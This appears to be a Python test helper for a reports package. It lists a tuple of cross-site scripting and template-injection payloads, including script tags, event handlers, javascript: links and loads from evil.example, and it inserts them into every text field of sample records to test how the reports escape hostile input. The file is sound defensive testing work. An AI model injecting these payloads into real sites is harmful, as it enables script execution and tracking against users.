"""Texts that try to leave their place, and records full of them."""

from __future__ import annotations

from typing import Any

from tests.reports.sample import sample_record
from tests.reports.scan_sample import sample_batch, sample_scan

PAYLOADS = (
    "<script>alert(1)</script>",
    "</title></style><script src=https://evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "[click](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,x) <javascript:alert(1)>",
    "![pixel](https://evil.example/pixel.png)",
    "[a](https://ok.example/\"onclick='alert(1)')",
    "{{ 7 * 7 }} {% include 'x' %} &lt;script&gt;alert(1)&lt;/script&gt;",
    "<svg onload=alert(1)><iframe src=//evil.example></iframe><style>*{display:none}</style><!--",
    "]]></desc></svg><script>alert(1)</script>",
)
_KEPT = {"trade_date"}
_CHOICES = {"action", "conviction", "thesis_angle", "stance"}
"""Fields of a decision or a pick that hold one of a few words: a card with another one is refused."""
LONGEST_TICKER = 32


def hostile_record(payload: str) -> dict[str, Any]:
    """Return the sample with `payload` put before every text and in every key that names something."""
    return _spoil(sample_record(), payload)


def hostile_scan(payload: str) -> dict[str, Any]:
    """Return the sample scan with `payload` put before every text."""
    return _spoil(sample_scan(), payload)


def hostile_batch(payload: str) -> dict[str, Any]:
    """Return the sample batch with `payload` put before every text, and after the paths of its runs."""
    record = _spoil(sample_batch(), payload)
    for row, clean in zip(record["rows"], sample_batch()["rows"], strict=True):
        row["paths"] = {name: f"{path}/{payload}" for name, path in clean["paths"].items()}
    record["paths"] = sample_batch()["paths"]
    return record


def _spoil(value: Any, payload: str, key: str = "") -> Any:
    if isinstance(value, str):
        spoilt = f"{payload} {value}"
        fits = key not in _KEPT | _CHOICES and (key != "ticker" or len(spoilt) <= LONGEST_TICKER)
        return spoilt if fits else value
    if isinstance(value, list):
        return [_spoil(item, payload) for item in value]
    if isinstance(value, dict):
        free_keys = key in ("figures", "by_agent", "by_tier", "versions")
        return {
            (f"{payload} {name}" if free_keys else name): (item if name == "settings" else _spoil(item, payload, name))
            for name, item in value.items()
        }
    return value
